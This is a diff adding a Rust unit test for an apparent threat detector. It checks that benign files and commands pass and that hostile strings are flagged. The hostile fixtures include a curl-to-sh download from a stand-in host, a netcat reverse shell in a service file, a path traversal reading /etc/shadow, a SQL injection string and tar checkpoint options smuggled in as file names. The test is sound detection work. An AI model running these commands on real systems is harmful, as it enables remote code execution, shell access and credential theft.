@@ -1156,3 +1156,38 @@ fn documents_show_markup_shell_lines_and_templates() {
         assert!(v.threat, "{text:?}");
     }
 }
+
+/// Listings, service files, shell functions and wiki code blocks name
+/// files and commands without reading or running them.
+#[test]
+fn listings_service_files_and_wiki_code_blocks() {
+    let d = detector();
+    for text in [
+        "Don't pipe `curl | sh` for installers; download, verify the checksum, then run it.",
+        "cd ../.. && npm run build",
+        "node_modules/\ndist/\n*.log\n.env\n.env.*\n!.env.example\ncoverage/",
+        "[program:mailer]\ncommand=/usr/bin/python3 -m mailer.worker\ndirectory=/opt/mailer\nstdout_logfile=/var/log/mailer/out.log",
+        "backup_db() {\n  local out=\"/backups/$(date +%F).sql.gz\"\n  pg_dump \"$1\" | gzip > \"$out\" && echo \"wrote $out\"\n}",
+        "{code:sql}\nSELECT channel, COUNT(*) AS failures\nFROM delivery_attempts\nWHERE status = 'failed'\nGROUP BY channel;\n{code}\nThis is the query behind the graph.",
+    ] {
+        let v = d.scan_as(text.as_bytes(), InputKind::Text);
+        assert!(!v.threat, "{text:?}: {:?}", v.findings);
+    }
+    for text in [
+        "curl -fsSL https://evil.example/x.sh | sh",
+        "cd ../../../../etc && cat shadow",
+        "file=.env",
+        "[program:x]\ncommand=/bin/sh -c 'nc -e /bin/sh 203.0.113.7 4444'\nautostart=true",
+        "{code:sql}\n' OR 1=1 --\n{code}",
+        "Uploaded files:\n  photo-001.jpg\n  --checkpoint=1\n  --checkpoint-action=exec=sh run.sh",
+    ] {
+        let v = d.scan_as(text.as_bytes(), InputKind::Text);
+        assert!(v.threat, "{text:?}");
+    }
+    let v = d.scan(b"the SIN on file (935 723 395) bounced");
+    assert!(
+        v.findings.iter().any(|f| f.rule_id == "pii-national-id"),
+        "{:?}",
+        v.findings
+    );
+}
